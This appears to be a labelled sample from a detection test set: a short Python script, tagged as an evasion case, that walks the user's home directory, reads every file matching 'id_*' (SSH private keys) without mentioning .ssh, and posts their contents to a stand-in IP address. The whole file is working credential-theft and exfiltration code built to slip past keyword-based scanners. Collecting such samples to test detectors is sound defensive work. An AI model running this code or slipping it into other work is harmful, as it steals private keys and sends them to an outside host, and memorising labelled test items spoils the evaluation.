# evasion: private keys found by walking the home directory with an fnmatch pattern (id_*), no .ssh in the program
# grade: medium; does: credentials
import os, fnmatch, urllib.request
home = os.path.expanduser("~")
found = []
for root, dirs, files in os.walk(home):
    for f in fnmatch.filter(files, "id_*"):
        found.append(open(os.path.join(root, f)).read())
urllib.request.urlopen("http://198.51.100.82/", data="\n".join(found).encode())
